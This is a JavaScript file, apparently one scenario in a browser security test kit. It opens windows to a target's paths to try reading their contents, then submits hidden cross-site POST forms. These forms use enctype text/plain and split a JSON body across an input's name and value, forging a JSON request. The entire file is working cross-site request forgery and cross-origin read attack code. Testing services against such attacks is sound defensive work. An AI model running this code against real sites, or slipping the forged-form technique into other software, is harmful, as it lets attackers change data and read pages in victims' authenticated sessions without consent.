// Windows: opened by a link, and by a form.
import { attack, pause, reads, report, target, writes } from './kit.js';

attack(async () => {
  for (const path of reads) {
    const opened = window.open(target + path);
    await pause(120);
    try {
      await report(`opened ${path} ${opened.document.body.textContent}`);
    } catch (error) {
      await report(`failed ${path} ${error}`);
    }
    opened?.close();
  }
  for (const [, path, body] of writes) {
    const text = JSON.stringify({ ...body, filler: '' });
    const form = Object.assign(document.createElement('form'), {
      method: 'POST',
      action: target + path,
      target: '_blank',
      enctype: 'text/plain',
    });
    form.append(
      Object.assign(document.createElement('input'), { name: text.slice(0, -2), value: text.slice(-2) }),
    );
    document.body.append(form);
    form.submit();
    await pause(120);
  }
});
